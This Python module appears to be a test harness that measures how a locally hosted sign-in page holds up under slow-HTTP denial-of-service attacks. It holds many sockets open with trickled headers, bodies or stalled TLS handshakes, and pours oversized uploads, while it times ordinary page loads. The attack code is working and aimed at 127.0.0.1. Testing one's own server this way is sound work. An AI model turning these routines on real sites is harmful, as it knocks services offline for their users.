"""Sending to a site of this machine slowly, or far too much, while somebody honest opens a page each moment."""

from __future__ import annotations

import http.client
import socket
import ssl
import time
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager, suppress
from dataclasses import dataclass, field

HOST, PAGE = "127.0.0.1", "/sign-in/"
PATIENCE = 2.0  # seconds an honest reader waits for a page
POST = f"POST {PAGE} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\n"
FIRST_WORDS = {
    "body": f"{POST}Content-Length: 1000\r\n\r\na=12345".encode(),
    "header": f"GET {PAGE} HTTP/1.1\r\nHost: localhost\r\nX-A: ".encode(),
    "silence": b"",
}
SAID_AGAIN = {"body": b"b", "header": b"b", "silence": b""}


@dataclass
class Outcome:
    """How an attack went: the seconds of pages that came and of those that did not, sockets the site closed and when."""

    came: list[float] = field(default_factory=list)
    failed: list[float] = field(default_factory=list)
    closed: list[float] = field(default_factory=list)

    def __str__(self) -> str:
        worst = f"{max(self.came):.2f} s" if self.came else "–"
        first = f", the first after {min(self.closed):.1f} s" if self.closed else ""
        return f"pages {len(self.came)} of {len(self.came) + len(self.failed)}, worst {worst}; closed {len(self.closed)}{first}"


def trusting() -> ssl.SSLContext:
    """Take whatever certificate the site shows: the certificate is not what is tried here."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def page(port: int, tls: bool = False, patience: float = PATIENCE) -> tuple[int, float]:
    """Open the sign-in page in a new connection; give the status, 0 for none, and the seconds it took."""
    begun, status = time.monotonic(), 0
    connection = (
        http.client.HTTPSConnection(HOST, port, timeout=patience, context=trusting())
        if tls
        else http.client.HTTPConnection(HOST, port, timeout=patience)
    )
    with suppress(OSError, http.client.HTTPException):
        connection.request("GET", PAGE)
        answer = connection.getresponse()
        answer.read()
        status = answer.status
    connection.close()
    return status, time.monotonic() - begun


@contextmanager
def held(port: int, kind: str, sockets: int, tls: bool = False) -> Iterator[list[socket.socket]]:
    """Open sockets and send the first words of a request; silence before TLS is a handshake that never comes."""
    with ExitStack() as stack:
        opened = []
        for _ in range(sockets):
            one = stack.enter_context(socket.create_connection((HOST, port), timeout=5))
            if tls and kind != "silence":
                one = stack.enter_context(trusting().wrap_socket(one))
            one.sendall(FIRST_WORDS[kind])
            opened.append(one)
        yield opened


def attack(
    port: int,
    kind: str,
    sockets: int,
    seconds: float,
    *,
    tls: bool = False,
    every: float = 1.0,
    patience: float = PATIENCE,
) -> Outcome:
    """Send a byte from each socket now and then, and open a page between."""
    outcome = Outcome()
    with held(port, kind, sockets, tls) as living:
        begun = time.monotonic()  # sixty handshakes take a while themselves
        while time.monotonic() - begun < seconds:
            status, took = page(port, tls, patience)
            (outcome.came if 0 < status < http.HTTPStatus.BAD_REQUEST else outcome.failed).append(took)
            for one in list(living):
                if not _goes_on(one, SAID_AGAIN[kind]):
                    living.remove(one)
                    outcome.closed.append(time.monotonic() - begun)
            time.sleep(every)
    return outcome


def _goes_on(one: socket.socket, word: bytes) -> bool:
    """Send a little more; say whether the site has neither answered nor closed."""
    try:
        one.sendall(word)
        one.settimeout(0.001)
        one.recv(1000)
    except (TimeoutError, ssl.SSLWantReadError):
        return True
    except OSError:
        pass
    return False


def pour(
    port: int, size: int, *, chunked: bool = False, tls: bool = False, cookie: str = "", rate: int = 0
) -> tuple[str, int]:
    """Send so many bytes of a file, `rate` a second if named; give the first line of the answer and the bytes sent."""
    head = b'--xx\r\nContent-Disposition: form-data; name="f"; filename="a.bin"\r\n\r\n'
    length = "Transfer-Encoding: chunked" if chunked else f"Content-Length: {len(head) + size}"
    cookies = f"Cookie: {cookie}\r\n" if cookie else ""
    words = f"POST {PAGE} HTTP/1.1\r\nHost: localhost\r\nContent-Type: multipart/form-data; boundary=xx\r\n{cookies}{length}\r\n\r\n"
    sent, part = 0, head
    with ExitStack() as stack:
        one = stack.enter_context(socket.create_connection((HOST, port), timeout=30))
        if tls:
            one = stack.enter_context(trusting().wrap_socket(one))
        with suppress(OSError):  # refused while sending: the answer may have come all the same
            one.sendall(words.encode())
            while part:
                one.sendall(b"%x\r\n%s\r\n" % (len(part), part) if chunked else part)
                sent += len(part)
                part = b"1" * min(65536, len(head) + size - sent)
                time.sleep(len(part) / rate if rate else 0)
            one.sendall(b"0\r\n\r\n" if chunked else b"")
        try:
            line = one.recv(200).split(b"\r\n")[0].decode("latin-1")
        except OSError as error:
            line = type(error).__name__
    return line, sent
